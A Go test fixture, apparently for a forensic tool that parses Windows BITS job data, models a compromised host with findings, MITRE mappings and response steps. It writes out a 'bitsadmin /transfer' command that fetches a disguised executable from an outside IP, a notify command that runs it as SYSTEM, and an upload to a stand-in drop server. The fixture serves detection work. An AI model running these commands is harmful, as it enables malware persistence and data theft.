// SPDX-FileCopyrightText: The openbits authors
// SPDX-License-Identifier: Apache-2.0

package reporttest

import (
	"github.com/openbits/openbits"
	"github.com/openbits/openbits/hunt/evidence"
)

const (
	attackID = "5a0c2d3e-7b1f-4c55-9d0e-1f2a3b4c5d6e"
	uploadID = "c3b2a190-8877-4665-9544-332211009988"
	system   = "S-1-5-18"
	user     = "S-1-5-21-1004336348-1177238915-682003330-1001"
)

// Abused is a host on which a job runs a program again and again, and another sends a file out.
func Abused() *evidence.Host {
	h := &evidence.Host{
		Name: "WS-07", Named: "events", Aliases: []string{"ws-07.corp.example"}, Windows: "Windows 11 24H2 (26100)",
		Inputs: []evidence.Input{
			{
				Path: "C/ProgramData/Microsoft/Network/Downloader/qmgr.db", SHA256: digest("a1"), Size: 1310720, Kind: "qmgr.db", Host: "WS-07", Status: evidence.Read,
				Notes: []string{"the database was not closed: changes in log generations 23 to 24 are not seen here; edb00017.log is missing"},
				About: map[string]string{"build": "26100", "state": "dirty", "generations_needed": "23-24"},
			},
			{
				Path: "C/Windows/System32/winevt/Logs/Microsoft-Windows-Bits-Client%4Operational.evtx", SHA256: digest("b2"), Size: 1118208, Kind: "evtx", Host: "WS-07", Status: evidence.Partial,
				Notes: []string{"chunk 3, offset 0x31000: the checksum of the chunk's records does not fit"}, About: map[string]string{"records": "1537"},
			},
			{Path: "C/ProgramData/Microsoft/Network/Downloader/qmgr.jfm", SHA256: digest("c3"), Size: 16384, Host: "WS-07", Status: evidence.Skipped},
			{Path: "C/pagefile.sys", Size: 1 << 32, Host: "WS-07", Status: evidence.Failed, Notes: []string{"access is denied"}},
		},
		Events: []evidence.Event{
			{
				Time: day(6, "07:08:12"), Host: "ws-07.corp.example", Channel: bitsLog, Provider: bitsProvider, ID: 3, Version: 3, UserSID: system, PID: ptr(int64(1234)), Job: attackID, Tie: "id",
				Data:     []evidence.Datum{{Name: "jobTitle", Value: "Updater"}, {Name: "jobId", Value: "{" + attackID + "}"}, {Name: "processPath", Value: `C:\Windows\System32\bitsadmin.exe`}},
				Evidence: evidence.Place{Input: 1, Layer: evidence.Live, Offset: ptr(int64(0x2200)), Record: 811},
			},
			{
				Time: day(6, "07:08:14"), Host: "ws-07.corp.example", Channel: bitsLog, Provider: bitsProvider, ID: 61, Version: 1, UserSID: system, Job: attackID, Tie: "id",
				Data:     []evidence.Datum{{Name: "name", Value: "Updater"}, {Name: "url", Value: "http://198.51.100.7:8080/a.jpg"}, {Name: "hr", Value: "2147954407"}},
				Evidence: evidence.Place{Input: 1, Layer: evidence.Live, Offset: ptr(int64(0x2a48)), Record: 812},
			},
			{
				Time: day(6, "07:08:15"), Host: "ws-07.corp.example", Channel: "Security", Provider: "Microsoft-Windows-Security-Auditing", ID: 4688, Version: 2,
				Data:     []evidence.Datum{{Name: "NewProcessName", Value: `C:\Windows\System32\cmd.exe`}, {Name: "ParentProcessName", Value: `C:\Windows\System32\svchost.exe`}},
				Evidence: evidence.Place{Input: 1, Layer: evidence.Slack, Offset: ptr(int64(0x9000)), Record: 9001, Cut: "its last value"},
			},
		},
		Files: []evidence.File{{
			URL: "https://files.example.net/tools.zip", Path: `C:\PerfLogs\t.zip`, BytesTotal: ptr(int64(52000)), Host: "WS-07", DriveType: "fixed", VolumeSerial: "1a2b3c4d",
			Evidence: evidence.Place{Layer: evidence.Slack, Page: 51, Offset: ptr(int64(0xd4f20)), Cut: "the end"},
		}},
	}
	h.Jobs = []evidence.Job{attackJob(), uploadJob(), firefoxJob("WS-07", day(2, "11:00:00"))}
	h.Findings = abusedFindings()
	return h
}

const (
	bitsLog      = "Microsoft-Windows-Bits-Client/Operational"
	bitsProvider = "Microsoft-Windows-Bits-Client"
)

func attackJob() evidence.Job {
	j := evidence.Job{
		Ref: attackID, Host: "WS-07", ID: attackID, Name: "Updater", Type: openbits.TypeDownload, Priority: openbits.PriorityNormal, State: openbits.StateTransientError,
		Owner:   evidence.Owner{ID: system, Name: `NT AUTHORITY\SYSTEM`},
		Created: day(6, "07:08:12"), Modified: day(6, "19:40:00"), Expires: day(6, "07:08:12").AddDate(0, 0, 90), FilesTotal: 1,
		Error: &evidence.Error{Code: "0x80072efd", Context: "remote_file", Text: "a connection with the server could not be established"},
		Files: []evidence.File{{
			URL: "http://198.51.100.7:8080/a.jpg", Path: `C:\Users\Public\a.exe`, Temporary: `C:\Users\Public\BIT4F1C.tmp`, DriveType: "fixed", VolumeSerial: "1a2b3c4d", Tie: "row",
			Evidence: evidence.Place{Page: 32, Layer: evidence.Live, Offset: ptr(int64(0x84210))},
		}},
		Notify:     &evidence.Notify{Program: `C:\Windows\System32\cmd.exe`, Arguments: `/c start C:\Users\Public\a.exe & bitsadmin /complete Updater`, Flags: []string{"error", "transferred"}, FlagWord: ptr(uint32(3))},
		Creator:    &evidence.Creator{Path: `C:\Windows\System32\bitsadmin.exe`, Integrity: "high", Elevated: ptr(true), PID: ptr(int64(4242)), CommandLine: `bitsadmin /transfer Updater http://198.51.100.7:8080/a.jpg C:\Users\Public\a.exe`},
		RetryDelay: ptr(int64(60)), TransientErrors: 17, Security: &evidence.Security{Word: 0x1e, Flags: []string{"ignore_cn", "ignore_date", "ignore_unknown_ca", "ignore_usage"}},
		Headers: &evidence.Protected{Size: 454, PlainSize: 104, MasterKey: "11111111-2222-3333-4444-555555555555"}, Method: "GET", Generation: "BITS 10.3.2",
		Timers: []evidence.Timer{{Kind: "inactivity", Start: day(6, "07:08:12"), Deadline: day(6, "07:08:12").AddDate(0, 0, 90)}},
		Raw:    map[string]string{"b+39": "00000000", "b+47": "10000000"}, Evidence: evidence.Place{Layer: evidence.Live, Page: 31, Offset: ptr(int64(0x80230))},
		Timeline: []evidence.Moment{
			{Time: day(6, "07:08:12"), What: "created by bitsadmin.exe", Kind: "created", Event: 1, Place: evidence.Place{Input: 1, Layer: evidence.Live, Record: 811}},
			{Time: day(6, "07:08:14"), What: "the transfer of http://198.51.100.7:8080/a.jpg stopped: 0x80072efd", Kind: "transfer_stopped", Event: 2, Place: evidence.Place{Input: 1, Layer: evidence.Live, Record: 812}},
			{Time: day(6, "12:00:00"), What: "suspended", Kind: "modified", Place: evidence.Place{Layer: evidence.Version, Page: 44}},
			{Time: day(6, "19:40:00"), What: "transient error", Kind: "modified", Place: evidence.Place{Layer: evidence.Live, Page: 31}},
		},
		Rarity: &evidence.Rarity{Key: "updater|bitsadmin.exe|198.51.100.7", Hosts: 1, Of: 3},
	}
	old := j
	old.Versions, old.Timeline, old.Rarity, old.Files = nil, nil, nil, nil
	old.State, old.Modified = openbits.StateSuspended, day(6, "12:00:00")
	old.Evidence = evidence.Place{Layer: evidence.Version, Page: 44, Offset: ptr(int64(0xb4c08))}
	now := old
	now.State, now.Modified, now.Evidence = j.State, j.Modified, j.Evidence
	j.Versions = []evidence.Job{old, now}
	return j
}

func uploadJob() evidence.Job {
	return evidence.Job{
		Ref: uploadID, Host: "WS-07", ID: uploadID, Name: "sync", Type: openbits.TypeUpload, Priority: openbits.PriorityForeground, State: openbits.StateAcknowledged,
		Owner: evidence.Owner{ID: user, Name: `CORP\amiller`}, Created: day(7, "02:10:00"), Modified: day(7, "02:31:00"), Completed: day(7, "02:30:58"),
		BytesTotal: ptr(int64(734003200)), BytesDone: 734003200, FilesTotal: 1, FilesDone: 1,
		Files: []evidence.File{{
			URL: "https://drop.example.org/in/fin-2024.7z", Path: `C:\Users\amiller\AppData\Local\Temp\fin-2024.7z`, BytesTotal: ptr(int64(734003200)), BytesDone: 734003200,
			Tie: "guess: the only upload of that hour", Evidence: evidence.Place{Layer: evidence.Slack, Page: 61, Offset: ptr(int64(0xf8a00))},
		}},
		Creator:  &evidence.Creator{Path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, Integrity: "medium"},
		Evidence: evidence.Place{Layer: evidence.Slack, Page: 60, Offset: ptr(int64(0xf4130)), Cut: "its last 40 bytes"},
		Timeline: []evidence.Moment{
			{Time: day(7, "02:10:00"), What: "created", Kind: "created", Place: evidence.Place{Layer: evidence.Slack, Page: 60}},
			{Time: day(7, "02:30:58"), What: "completed", Kind: "completed", Place: evidence.Place{Layer: evidence.Slack, Page: 60}},
		},
	}
}

func abusedFindings() []evidence.Finding {
	attack := func(tactics ...string) evidence.Attack {
		return evidence.Attack{Version: "18.1", Techniques: []string{"T1197"}, Tactics: tactics}
	}
	return []evidence.Finding{
		{
			Rule: "3f2b6a90-5d1e-4a6c-8f0b-0c9d8e7f6a51", Behaviour: "notify_command", Title: "A job starts a program", Severity: evidence.Critical, Confidence: evidence.Strong, Technique: "T1197",
			Why:    `BITS starts C:\Windows\System32\cmd.exe with "/c start C:\Users\Public\a.exe & bitsadmin /complete Updater" as SYSTEM each time the job "Updater" is done or fails. Its server http://198.51.100.7:8080 does not answer, so that happens every minute, over reboots, for 90 days.`,
			Benign: "None is known: in the evidence that was looked at, no program of Windows or of a vendor sets a notify command.",
			Next:   `Get C:\Users\Public\a.exe, look for children of the BITS service's svchost.exe (event 4688, Sysmon 1), and cancel the job with "bitsadmin /cancel {` + attackID + `}" only after the evidence is safe.`,
			Host:   "WS-07", Job: attackID, Name: "Updater", Time: day(6, "07:08:12"),
			Evidence: []evidence.Place{{Layer: evidence.Live, Page: 31, Offset: ptr(int64(0x80230))}, {Input: 1, Layer: evidence.Live, Offset: ptr(int64(0x2200)), Record: 811}},
			Matched:  []evidence.Datum{{Name: "notify_program", Value: `C:\Windows\System32\cmd.exe`}, {Name: "url", Value: "http://198.51.100.7:8080/a.jpg"}},
			Attack:   attack("persistence", "execution"), D3FEND: []evidence.Counter{{ID: "D3-OTF", Name: "Outbound Traffic Filtering", Tactic: "Isolate"}, {ID: "D3-PSA", Name: "Process Spawn Analysis", Tactic: "Detect", Inferred: true}},
		},
		{
			Rule: "7c1d2e3f-0a9b-4c8d-9e7f-6a5b4c3d2e1f", Behaviour: "extension_mismatch", Title: "A picture becomes a program", Severity: evidence.High, Confidence: evidence.Strong, Technique: "T1197",
			Why:  `The job "Updater" fetches http://198.51.100.7:8080/a.jpg and writes it as C:\Users\Public\a.exe.`,
			Next: `Look whether C:\Users\Public\a.exe exists or existed ($MFT, USN journal, Amcache).`, Host: "WS-07", Job: attackID, Name: "Updater", Time: day(6, "07:08:14"),
			Evidence: []evidence.Place{{Layer: evidence.Live, Page: 32, Offset: ptr(int64(0x84210))}},
			Matched:  []evidence.Datum{{Name: "url", Value: "http://198.51.100.7:8080/a.jpg"}, {Name: "path", Value: `C:\Users\Public\a.exe`}}, Attack: attack("defense-evasion"),
		},
		{
			Rule: "9a8b7c6d-5e4f-4032-8110-ffeeddccbbaa", Behaviour: "upload", Title: "A job sends a file out", Severity: evidence.Medium, Confidence: evidence.Fair, Technique: "T1197",
			Why:    `The job "sync" of CORP\amiller sent C:\Users\amiller\AppData\Local\Temp\fin-2024.7z (700 MiB) to drop.example.org.`,
			Benign: "Configuration Manager uploads inventories by BITS, to its own servers.", Next: "Ask the proxy's log for PUT or BITS_POST requests to that server.",
			Host: "WS-07", Job: uploadID, Name: "sync", Time: day(7, "02:10:00"), Evidence: []evidence.Place{{Layer: evidence.Slack, Page: 60, Offset: ptr(int64(0xf4130)), Cut: "its last 40 bytes"}},
			Matched: []evidence.Datum{{Name: "url", Value: "https://drop.example.org/in/fin-2024.7z"}, {Name: "path", Value: `C:\Users\amiller\AppData\Local\Temp\fin-2024.7z`}},
			Attack:  evidence.Attack{Version: "18.1", Techniques: []string{"T1197", "T1048"}, Tactics: []string{"exfiltration"}},
		},
	}
}
